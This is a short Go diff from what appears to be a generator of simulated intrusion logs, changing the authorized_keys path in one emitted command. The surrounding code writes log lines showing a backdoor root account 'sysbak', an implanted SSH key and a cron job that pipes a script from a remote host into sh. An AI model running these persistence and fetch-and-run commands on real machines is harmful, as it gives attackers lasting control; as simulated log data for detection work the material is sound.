@@ -45,7 +45,7 @@ func breakIn(p *plotter) {
 	auth(50*time.Millisecond, "useradd", 4331, "new user: name=sysbak, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1")
 	auth(8*time.Second, "passwd", 4336, "pam_unix(passwd:chauthtok): password changed for sysbak")
 	p.begin("ssh.key")
-	root(0, "/usr/bin/bash", "bash -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDEMODEMODEMODEMODEMODEMODEMODEMODEMODEMODEMOD >> /root/.ssh/authorized_keys", 4344)
+	root(0, "/usr/bin/bash", "bash -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDEMODEMODEMODEMODEMODEMODEMODEMODEMODEMODEMOD >> ~/.ssh/authorized_keys", 4344)
 	p.begin("ssh.cron")
 	for i := range 4 {
 		p.syslog(hisLinux, time.Duration(i*5)*time.Minute, priCron, jump.name, "CRON", 4360+i, "(root) CMD (curl -fsSL http://%s/u.sh | sh)", farEnd)
